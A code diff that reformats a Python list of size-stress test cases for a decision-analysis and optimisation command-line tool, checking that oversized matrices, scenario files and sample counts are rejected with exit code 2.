-        Case("size-million-columns-rank", "mcda", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv"],
-             files={"m.csv": wide, "c.csv": crit1}, isolate=True, expect=(2,), family="size"),
-        Case("size-million-columns-weights", "mcda", ["weights", "{d}/m.csv", "--criteria", "{d}/c.csv", "--method", "entropy"],
-             files={"m.csv": wide, "c.csv": crit1}, isolate=True, expect=(2,), family="size"),
-        Case("size-smaa-1.1M-rows", "mcda", ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv", "--samples", "1000",
-                                              "--out", "{o}/a.csv"],
-             files={"m.csv": tall, "c.csv": crit1}, isolate=True, expect=(2,), family="size"),
-        Case("size-rank-2M-rows", "mcda", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv"],
-             files={"m.csv": rows2m, "c.csv": crit1}, isolate=True, expect=(2,), family="size"),
-        Case("size-candidates-200k-unknown", "optimisation", ["solve", "{d}/s.json", "--out", "{o}"],
-             files={"s.json": _dumps(doc)}, isolate=True, expect=(2,), family="size"),
-        Case("size-candidates-200k-dup", "optimisation", ["solve", "{d}/s.json", "--out", "{o}"],
-             files={"s.json": _dumps(dup)}, isolate=True, expect=(2,), family="size"),
-        Case("size-sparse-300MB-matrix", "mcda", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv"],
-             files={"c.csv": crit1}, sparse={"m.csv": 300 * 1024 * 1024}, expect=(2,), family="size"),
-        Case("size-sparse-20MB-scenario", "mcda", ["run", "{d}/s.json", "--out", "{o}"],
-             sparse={"s.json": 20 * 1024 * 1024}, expect=(2,), family="size"),
-        Case("size-smaa-samples-huge", "mcda", ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv", "--samples", "9" * 40,
-                                                 "--out", "{o}/a.csv"],
-             files={"m.csv": MATRIX, "c.csv": CRITERIA}, expect=(2,), family="size"),
+        Case(
+            "size-million-columns-rank",
+            "mcda",
+            ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv"],
+            files={"m.csv": wide, "c.csv": crit1},
+            isolate=True,
+            expect=(2,),
+            family="size",
+        ),
+        Case(
+            "size-million-columns-weights",
+            "mcda",
+            ["weights", "{d}/m.csv", "--criteria", "{d}/c.csv", "--method", "entropy"],
+            files={"m.csv": wide, "c.csv": crit1},
+            isolate=True,
+            expect=(2,),
+            family="size",
+        ),
+        Case(
+            "size-smaa-1.1M-rows",
+            "mcda",
+            ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv", "--samples", "1000", "--out", "{o}/a.csv"],
+            files={"m.csv": tall, "c.csv": crit1},
+            isolate=True,
+            expect=(2,),
+            family="size",
+        ),
+        Case(
+            "size-rank-2M-rows",
+            "mcda",
+            ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv"],
+            files={"m.csv": rows2m, "c.csv": crit1},
+            isolate=True,
+            expect=(2,),
+            family="size",
+        ),
+        Case(
+            "size-candidates-200k-unknown",
+            "optimisation",
+            ["solve", "{d}/s.json", "--out", "{o}"],
+            files={"s.json": _dumps(doc)},
+            isolate=True,
+            expect=(2,),
+            family="size",
+        ),
+        Case(
+            "size-candidates-200k-dup",
+            "optimisation",
+            ["solve", "{d}/s.json", "--out", "{o}"],
+            files={"s.json": _dumps(dup)},
+            isolate=True,
+            expect=(2,),
+            family="size",
+        ),
+        Case(
+            "size-sparse-300MB-matrix",
+            "mcda",
+            ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv"],
+            files={"c.csv": crit1},
+            sparse={"m.csv": 300 * 1024 * 1024},
+            expect=(2,),
+            family="size",
+        ),
+        Case(
+            "size-sparse-20MB-scenario",
+            "mcda",
+            ["run", "{d}/s.json", "--out", "{o}"],
+            sparse={"s.json": 20 * 1024 * 1024},
+            expect=(2,),
+            family="size",
+        ),
+        Case(
+            "size-smaa-samples-huge",
+            "mcda",
+            ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv", "--samples", "9" * 40, "--out", "{o}/a.csv"],
+            files={"m.csv": MATRIX, "c.csv": CRITERIA},
+            expect=(2,),
+            family="size",
+        ),
     ]
 
 
 def all_cases() -> list[Case]:
-    cases = (scenario_mutants() + scenario_structure() + dataset_paths() + cli_paths() + table_junk()
-             + judgement_junk() + sizes())
+    cases = (
+        scenario_mutants()
+        + scenario_structure()
+        + dataset_paths()
+        + cli_paths()
+        + table_junk()
+        + judgement_junk()
+        + sizes()
+    )
     ids = [c.id for c in cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
     return cases
